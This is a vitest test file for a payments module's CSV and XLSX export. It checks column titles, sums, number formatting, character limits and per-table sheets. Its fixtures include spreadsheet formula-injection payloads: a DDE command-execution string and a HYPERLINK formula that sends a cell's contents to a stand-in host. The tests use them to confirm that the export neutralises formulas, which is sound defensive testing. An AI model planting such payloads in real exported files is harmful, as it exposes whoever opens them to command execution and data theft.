import { parse } from "papaparse";
import readExcelFile from "read-excel-file/node";
import { expect, test } from "vitest";
import { csvText } from "../../../lib/files/csv";
import { COLUMNS, type ExportRow } from "./export-row";
import { paymentsCsv, tablesCsv } from "./payments-csv";
import { paymentsXlsx } from "./payments-xlsx";
import type { Table } from "./table";

const plain: ExportRow = {
  ...{ date: "2026-11-03", receipt: 12, client: "Łucja Peña", document: "0012345", concept: "Cita del 3 de noviembre" },
  ...{ gross: 130_000, retention: 14_300, net: 115_700, method: "Bre-B", reference: "M-4711", state: "Confirmado" },
  ...{ confirmed: "2026-11-03 10:00:00", annulled: "", reason: "", nit: "52111222-3" },
};
const HOSTILE = [
  ...["=1+1", "+57 300 123 4567", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "'=1"],
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://mal.example?"&A1;"clic")'],
  ...['a "b"; c, d', "uno\ndos", " espacios ", "<b>&amp;</b>", "😀 Zoë", "_x0041_"],
];
const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
const rows: ExportRow[] = [
  plain,
  { ...plain, date: "2026-12-31", receipt: null, gross: -50_000, retention: 0, net: -50_000, state: "Devolución" },
  ...HOSTILE.map((text, index) => ({ ...plain, receipt: 13 + index, client: text, concept: text, reference: text })),
];
const sum = (values: unknown[]) => values.reduce<number>((total, value) => total + Number(value), 0);
const readCsv = async (file: Blob) => {
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.arrayBuffer());
  const { data, errors } = parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", skipEmptyLines: true });
  expect(errors).toEqual([]);
  return { text, lines: data };
};
const sheetsOf = async (file: Promise<Blob>) =>
  readExcelFile(Buffer.from(await (await file).arrayBuffer()), { trim: false });
const readXlsx = async (of: ExportRow[]) => (await sheetsOf(paymentsXlsx(of)))[0]?.data ?? [];

test("a CSV that another library reads has the same titles, texts and sums", async () => {
  const { text, lines } = await readCsv(paymentsCsv(rows));
  expect(text.startsWith("\uFEFFFecha;Recibo;Cliente;Documento;")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  expect(lines).toHaveLength(rows.length + 1);
  expect(lines[0]).toEqual(COLUMNS.map(({ title }) => title));
  expect(lines[1]).toEqual(Object.values(plain).map(String));
  const column = (name: keyof ExportRow) =>
    lines.slice(1).map((line) => line[COLUMNS.findIndex(({ field }) => field === name)] ?? "");
  for (const field of ["gross", "retention", "net"] as const) {
    expect(sum(column(field))).toBe(sum(rows.map((row) => row[field])));
  }
  expect(column("net")[1]).toBe("-50000");
  expect(column("receipt")[1]).toBe("");
});

test("a CSV writes a decimal comma in numbers, and keeps points in texts", () =>
  expect(csvText([[12.5, "12.5", -3]])).toBe("\uFEFF12,5;12.5;-3\r\n"));

test("a CSV puts an apostrophe before texts that spreadsheets run as formulas, and keeps other texts", async () => {
  const { lines } = await readCsv(paymentsCsv(rows));
  for (const [index, hostile] of HOSTILE.entries()) {
    const written = lines[index + 3]?.[2];
    expect(written).toBe(RUN_BY_SPREADSHEETS.test(hostile) ? `'${hostile}` : hostile);
    expect(written).not.toMatch(RUN_BY_SPREADSHEETS);
  }
});

test("an XLSX that another library reads has the same dates, numbers, texts and sums", async () => {
  const [titles, first, second, ...hostile] = await readXlsx(rows);
  expect(titles).toEqual(COLUMNS.map(({ title }) => title));
  const cells = Object.values(plain).map((value) => (value === "" ? null : value));
  expect(first).toEqual([new Date("2026-11-03T00:00:00Z"), ...cells.slice(1)]);
  expect(second?.slice(0, 2)).toEqual([new Date("2026-12-31T00:00:00Z"), null]);
  expect(second?.slice(5, 8)).toEqual([-50_000, 0, -50_000]);
  expect(hostile.map((line) => [line[2], line[4], line[9]])).toEqual(HOSTILE.map((text) => [text, text, text]));
  for (const [index, field] of (["gross", "retention", "net"] as const).entries()) {
    expect(sum([first, second, ...hostile].map((line) => line?.[5 + index]))).toBe(sum(rows.map((row) => row[field])));
  }
});

test("characters that a cell cannot hold are dropped, and texts are cut at 32,767 characters", async () => {
  const broken = { ...plain, client: "a\u0000b\u0001\uD800c\uFFFF", concept: "x".repeat(40_000) };
  const [, line] = await readXlsx([broken]);
  expect(line?.[2]).toBe("abc");
  expect(String(line?.[4])).toHaveLength(32_767);
  expect((await readCsv(paymentsCsv([broken]))).lines[1]?.[2]).toBe("abc");
});

test("a file without payments has only the row of titles", async () => {
  expect((await readCsv(paymentsCsv([]))).lines).toHaveLength(1);
  expect(await readXlsx([])).toHaveLength(1);
});

const table: Table = {
  title: "Gastos",
  columns: [
    { title: "Fecha", kind: "date", width: 12 },
    { title: "Nota", kind: "text", width: 30 },
    { title: "Valor", kind: "pesos", width: 14 },
  ],
  lines: [{ cells: ["2026-11-03", "=1+1", 1_200_000] }, { cells: [null, "Total", -50_000], isStrong: true }],
};
const TITLES = ["Fecha", "Nota", "Valor"];
test("a CSV has each table under its title, without formulas", async () => {
  const { text } = await readCsv(tablesCsv([table, { ...table, title: "Otra" }]));
  const cells = [TITLES, ["2026-11-03", "'=1+1", "1200000"], ["", "Total", "-50000"], [""]];
  expect(parse<string[]>(text.slice(1), { delimiter: ";" }).data).toEqual([["Gastos"], ...cells, ["Otra"], ...cells]);
});

test("an XLSX has each table on a sheet of its own after the payments", async () => {
  const [payments, sheet] = await sheetsOf(paymentsXlsx([], [table]));
  expect([payments?.sheet, payments?.data.length, sheet?.sheet]).toEqual(["Pagos", 1, "Gastos"]);
  const cells = [new Date("2026-11-03T00:00:00Z"), "=1+1", 1_200_000];
  expect(sheet?.data).toEqual([TITLES, cells, [null, "Total", -50_000]]);
});
